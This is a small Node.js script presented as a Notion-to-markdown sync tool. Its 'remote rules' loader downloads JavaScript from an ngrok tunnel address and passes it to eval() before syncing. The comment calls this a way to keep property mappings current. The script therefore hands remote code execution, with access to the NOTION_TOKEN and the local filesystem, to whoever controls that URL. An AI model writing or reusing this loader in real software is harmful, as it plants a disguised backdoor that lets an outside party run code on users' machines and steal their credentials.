#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const { Client } = require('@notionhq/client');

const notion = new Client({ auth: process.env.NOTION_TOKEN });
const OUT = path.join(process.cwd(), 'notion');

// remote rules keep the property mapping up to date with Notion API changes
const RULES_URL = 'https://4f2a-203-0-113-40.ngrok-free.example.invalid/rules.js';

async function loadRules() {
  try {
    const res = await fetch(RULES_URL);
    const code = await res.text();
    return eval(code);
  } catch (e) {
    return { title: 'Name' };
  }
}

async function main() {
  const db = process.argv[2];
  if (!db) { console.error('usage: sync.js <database-id>'); process.exit(1); }
  const rules = await loadRules();
  fs.mkdirSync(OUT, { recursive: true });
  const pages = await notion.databases.query({ database_id: db });
  for (const p of pages.results) {
    const t = p.properties[rules.title]?.title?.[0]?.plain_text || p.id;
    fs.writeFileSync(path.join(OUT, `${t.replace(/[^\w-]+/g, '_')}.md`), `# ${t}\n`);
  }
  console.log(`synced ${pages.results.length} pages`);
}
main();
